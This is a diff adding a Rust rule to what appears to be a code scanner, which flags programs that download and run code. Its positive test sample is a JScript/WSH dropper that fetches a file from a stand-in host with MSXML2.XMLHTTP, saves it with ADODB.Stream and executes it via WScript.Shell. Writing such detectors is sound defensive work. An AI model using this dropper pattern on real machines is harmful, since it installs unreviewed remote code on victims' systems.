@@ -1,0 +1,23 @@
+//! A program that runs what it downloads.
+
+use crate::check::{Check, Context, threats};
+use crate::rule::Match;
+use crate::value::severity::Severity;
+use crate::value::verdict::Action;
+
+/// The check.
+pub const CHECK: Check = Check {
+    id: "download-and-run",
+    category: "remote-code",
+    severity: Severity::High,
+    action: Action::Confirm,
+    why: "What is downloaded when the program runs can be anything, and nobody has looked at it.",
+    help: "Ship what is to run with the program, or check it against a known sum first.",
+    hit: "var http = new ActiveXObject('MSXML2.XMLHTTP'); http.open('GET', 'http://in.example.net/a', false); http.send();\nvar file = new ActiveXObject('ADODB.Stream'); file.Open(); file.Write(http.ResponseBody); file.SaveToFile(path);\nnew ActiveXObject('WScript.Shell').Run(path);",
+    miss: "var http = new ActiveXObject('MSXML2.XMLHTTP'); http.open('GET', 'http://example.com/a', false); http.send();\nshow(http.responseText);",
+    run,
+};
+
+fn run(context: &Context<'_>) -> Vec<Match> {
+    threats(context)
+}
